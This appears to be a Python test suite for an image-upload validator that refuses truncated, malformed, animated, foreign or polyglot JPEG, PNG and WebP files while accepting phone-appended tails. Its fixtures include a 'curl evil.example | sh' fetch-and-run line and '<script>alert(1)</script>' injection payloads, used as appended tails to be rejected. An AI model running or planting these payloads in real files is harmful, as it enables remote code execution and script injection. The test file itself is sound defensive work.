"""Where an image ends, and what may come after it: two files in one are refused before any decoder sees them."""

from __future__ import annotations

import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from sora_gateway.media.image_container import UnusableImage, outline_of

from .pictures import FORMATS, chunk, encoded, film, png, riff, samsungs_notes, striped, webp_chunk

WHOLE = {kind: encoded(striped(), kind) for kind in FORMATS} | {
    "progressive JPEG": encoded(striped(), "JPEG", progressive=True),
    "JPEG with restarts": encoded(striped(), "JPEG", restart_marker_blocks=1),
    "lossy WebP": encoded(striped(), "WEBP", lossless=False),
    "WebP with EXIF": encoded(striped(), "WEBP", exif=b"Exif\0\0" + Image.Exif().tobytes()),
}
JPEG, PNG, WEBP = (WHOLE[kind] for kind in FORMATS)

ZIP = b"PK\x03\x04" + bytes(26) + b"PK\x05\x06" + bytes(18)
HTML = b"<html><script>alert(1)</script></html>"
PDF = b"%PDF-1.7\n%%EOF\n"
SCRIPT = b"\n#!/bin/sh\ncurl evil.example | sh\n"


@pytest.mark.parametrize("case", WHOLE)
def test_a_whole_image_tells_its_size_and_its_length(case: str) -> None:
    outline = outline_of(WHOLE[case])
    assert (outline.width, outline.height, outline.length) == (80, 40, len(WHOLE[case]))
    assert outline.media_type.removeprefix("image/").upper() in case.upper()


@pytest.mark.parametrize("case", WHOLE)
def test_an_image_that_is_cut_off_anywhere_is_refused(case: str) -> None:
    for length in range(len(WHOLE[case])):
        with pytest.raises(UnusableImage, match=r"^The (image|file) .*\.$"):
            outline_of(WHOLE[case][:length])


@pytest.mark.parametrize("image", [JPEG, PNG, WEBP], ids=FORMATS)
@pytest.mark.parametrize("tail", [ZIP, HTML, PDF, SCRIPT, PNG, b"\0GIF89a", b"x"])
def test_a_file_that_goes_on_as_something_else_is_refused(image: bytes, tail: bytes) -> None:
    with pytest.raises(UnusableImage, match="goes on after the end"):
        outline_of(image + tail)


def test_a_jpeg_that_is_drawn_a_thousand_times_is_refused() -> None:
    """A few kilobytes of empty scans would keep a decoder busy for as long as it is let."""
    image = WHOLE["progressive JPEG"]
    last_scan = image[image.rindex(b"\xff\xda") : -2]
    assert outline_of(image[:-2] + 80 * last_scan + image[-2:]).width == 80
    with pytest.raises(UnusableImage, match="too many steps"):
        outline_of(image[:-2] + 1000 * last_scan + image[-2:])


TAILS = {
    "zeros": bytes(4096),
    "another picture": JPEG,
    "several pictures with zeros between": bytes(10) + JPEG + bytes(3) + JPEG + bytes(2),
    "a film": film(),
    "a picture and a film": JPEG + film(),
    "zeros and a film": bytes(7) + film(),
    "Samsung's notes": samsungs_notes(b"1700000000000"),
    "a film in Samsung's notes": samsungs_notes(b"1700000000000", film()),
    "a picture and Samsung's notes": JPEG + samsungs_notes(b"1700000000000"),
}


@pytest.mark.parametrize("case", TAILS)
def test_what_phones_append_to_a_photo_is_not_held_against_it(case: str) -> None:
    outline = outline_of(JPEG + TAILS[case])
    assert (outline.width, outline.height, outline.length) == (80, 40, len(JPEG))


WRONG_TAILS = {
    "a picture that is cut off": JPEG[:-2],
    "a picture without anything in it": b"\xff\xd8\xff\xd9",
    "a picture and an archive": JPEG + ZIP,
    "a film and an archive": film() + ZIP,
    "a film that is cut off": film()[:-1],
    "zeros and a page": bytes(100) + HTML,
    "notes whose directory is nowhere": struct.pack("<I", 1 << 30) + b"SEFT",
    "notes that begin inside of the photo": samsungs_notes(b"x")[8:],
    "notes of something else": HTML + samsungs_notes(b"x").replace(b"SEFH", b"SEFX"),
    "notes with an archive before them": ZIP + samsungs_notes(b"x"),
    "notes with too many entries": samsungs_notes(b"x").replace(b"SEFH\x65\0\0\0\x01", b"SEFH\x65\0\0\0\x02"),
}


@pytest.mark.parametrize("case", WRONG_TAILS)
def test_what_only_looks_like_a_phones_appendix_is_refused(case: str) -> None:
    with pytest.raises(UnusableImage):
        outline_of(JPEG + WRONG_TAILS[case])


FOREIGN = {
    "SVG": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "HTML": HTML,
    "GIF": encoded(striped(), "GIF"),
    "TIFF": encoded(striped(), "TIFF"),
    "BMP": encoded(striped(), "BMP"),
    "EPS": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n",
    "PSD": b"8BPS\x00\x01" + bytes(40),
    "FITS": b"SIMPLE  =                    T" + bytes(60),
    "HEIC": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic",
    "AVIF": b"\x00\x00\x00\x18ftypavif\x00\x00\x00\x00mif1avif",
    "PDF": PDF,
    "ZIP": ZIP,
    "nothing": b"",
    "a JPEG after a blank": b" " + JPEG,
    "a sound": b"RIFF\x24\0\0\0WAVEfmt ",
}


@pytest.mark.parametrize("case", FOREIGN)
def test_any_other_kind_of_file_is_named_as_such(case: str) -> None:
    with pytest.raises(UnusableImage, match="not a JPEG, PNG or WebP image"):
        outline_of(FOREIGN[case])


def test_an_animation_is_refused() -> None:
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    for kind in ("PNG", "WEBP"):
        moving = encoded(frames[0], kind, save_all=True, append_images=frames[1:])
        with pytest.raises(UnusableImage, match="animated"):
            outline_of(moving)


def vp8x(flags: int) -> bytes:
    return webp_chunk(b"VP8X", struct.pack("<B3xHBHB", flags, 79, 0, 39, 0))


MALFORMED = {
    "PNG without a header": PNG[:8] + chunk(b"IDAT") + chunk(b"IEND"),
    "PNG without pixels in a row": png(0, 10, 8, 0, b""),
    "PNG without rows": png(10, 0, 8, 0, b""),
    "PNG with a chunk beyond its end": PNG[:-12] + struct.pack(">I4sI", 0xFFFFFFFF, b"IEND", 0),
    "JPEG without a frame": b"\xff\xd8\xff\xe0\x00\x04ab\xff\xd9",
    "JPEG with two frames": JPEG.replace(b"\xff\xc0", JPEG[JPEG.index(b"\xff\xc0") :][:19] + b"\xff\xc0"),
    "JPEG that begins twice": JPEG[:2] + JPEG,
    "JPEG with a segment of no length": b"\xff\xd8\xff\xe0\x00\x00" + JPEG[2:],
    "JPEG with bytes between segments": JPEG[:2] + b"\xff\xe1\x00\x04ab<script>" + JPEG[2:],
    "JPEG of which only the beginning is there": b"\xff\xd8\xff",
    "WebP without an image": riff(webp_chunk(b"EXIF", b"")),
    "WebP with nothing in it": riff(),
    "WebP with a chunk beyond its end": riff(vp8x(0), b"VP8 \xff\xff\0\0"),
    "WebP shorter than it says": WEBP[:-4],
    "WebP with a hidden animation": riff(vp8x(0), webp_chunk(b"ANMF", bytes(16))),
    "WebP that says that it is animated": riff(vp8x(2), webp_chunk(b"VP8 ", bytes(16))),
}


@pytest.mark.parametrize("case", MALFORMED)
def test_a_file_whose_parts_do_not_fit_together_is_refused(case: str) -> None:
    with pytest.raises(UnusableImage, match=r"^The image is (damaged|animated)"):
        outline_of(MALFORMED[case])


def test_sizes_are_read_to_their_last_bit() -> None:
    assert outline_of(png(1 << 31, 65_536, 8, 0, b"")).width == 1 << 31
    canvas = webp_chunk(b"VP8X", struct.pack("<B3xHBHB", 0, 0xFFFF, 0xFF, 0xFFFE, 0xFF))
    outline = outline_of(riff(canvas))
    assert (outline.width, outline.height) == (1 << 24, (1 << 24) - 1)


BEGINNINGS = st.sampled_from(
    [b"", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"RIFF\x20\0\0\0WEBP", JPEG, PNG, WEBP]
)


def looked_at(data: bytes) -> str:
    """What is said of *data*; every other exception is a bug."""
    try:
        outline = outline_of(data)
    except UnusableImage as error:
        return str(error)
    assert 0 < outline.length <= len(data)
    return "It is an image."


@given(BEGINNINGS, st.binary(max_size=200))
def test_any_bytes_are_answered_with_a_sentence(beginning: bytes, rest: bytes) -> None:
    assert looked_at(beginning + rest).endswith(".")


@given(st.sampled_from(sorted(WHOLE)), st.integers(0, 1 << 16), st.binary(min_size=1, max_size=8))
def test_any_damage_is_answered_with_a_sentence(case: str, position: int, damage: bytes) -> None:
    data = bytearray(WHOLE[case])
    position %= len(data)
    data[position : position + len(damage)] = damage
    assert looked_at(bytes(data)).endswith(".")
